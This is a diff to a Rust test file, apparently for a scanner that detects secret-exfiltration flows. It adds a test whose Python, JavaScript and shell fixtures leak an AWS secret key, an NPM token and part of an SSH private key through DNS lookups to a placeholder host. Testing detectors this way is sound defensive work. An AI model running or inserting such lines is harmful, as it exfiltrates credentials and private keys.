@@ -363,3 +363,15 @@ fn callbacks_over_the_environment_carry_it_into_what_they_fill() {
     assert_eq!(out.len(), 1, "{out:?}");
     assert_eq!(out[0].finding.line, 3);
 }
+
+#[test]
+fn secrets_sent_in_a_dns_lookup_are_flows() {
+    let cases: &[(&str, &str)] = &[
+        ("a.py", "import os, socket\nsocket.gethostbyname(os.getenv('AWS_SECRET_ACCESS_KEY') + '.h.invalid')\n"),
+        ("b.js", "const dns = require('dns');\ndns.resolveTxt(`${process.env.NPM_TOKEN}.h.invalid`, () => {});\n"),
+        ("c.sh", "#!/bin/sh\ndig +short \"$(cat ~/.ssh/id_rsa | head -c 60 | base64).h.invalid\"\n"),
+    ];
+    for (name, code) in cases {
+        assert_eq!(flows(&[(*name, *code)]).len(), 1, "{name}");
+    }
+}
